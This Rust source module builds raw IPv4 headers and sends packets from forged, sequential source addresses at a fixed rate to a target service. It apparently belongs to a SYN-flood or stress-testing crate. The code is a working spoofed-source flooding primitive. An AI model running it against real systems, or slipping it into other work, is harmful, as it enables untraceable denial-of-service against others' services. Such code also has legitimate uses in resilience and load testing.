//! Packets from addresses that are nobody's: no answer to them comes anywhere.
//!
//! What is in them, behind the header that they all have, is with those who send them: `syns` and `floods`.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::thread;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// Where the part begins that [`header`] does not write.
pub(crate) const HEADER_BYTES: usize = 20;

/// Sends a packet from each of so many addresses, at an even rate. How long that took.
pub(crate) fn flood<const BYTES: usize>(
    service: SocketAddr,
    count: u32,
    a_millisecond: u32,
    packet: fn(Ipv4Addr, SocketAddrV4) -> [u8; BYTES],
) -> io::Result<Duration> {
    const FIRST: u32 = u32::from_be_bytes([11, 0, 0, 1]);
    let SocketAddr::V4(service) = service else { return Err(io::ErrorKind::Unsupported.into()) };
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)))?;
    let (address, begin) = (SockAddr::from(SocketAddrV4::new(*service.ip(), 0)), Instant::now());
    for number in 0..count {
        if number % a_millisecond == 0 {
            let due = begin + Duration::from_millis((number / a_millisecond).into());
            thread::sleep(due.saturating_duration_since(Instant::now()));
        }
        socket.send_to(&packet(Ipv4Addr::from(FIRST + number), service), &address)?;
    }
    Ok(begin.elapsed())
}

/// Writes an IPv4 header, of which the kernel fills in length and checksum.
pub(crate) fn header(packet: &mut [u8], protocol: u8, source: Ipv4Addr, to: Ipv4Addr) {
    const VERSION_AND_WORDS: u8 = 0x45;
    const LIFETIME: u8 = 64;
    packet[0] = VERSION_AND_WORDS;
    packet[8] = LIFETIME;
    packet[9] = protocol;
    packet[12..16].copy_from_slice(&source.octets());
    packet[16..20].copy_from_slice(&to.octets());
}
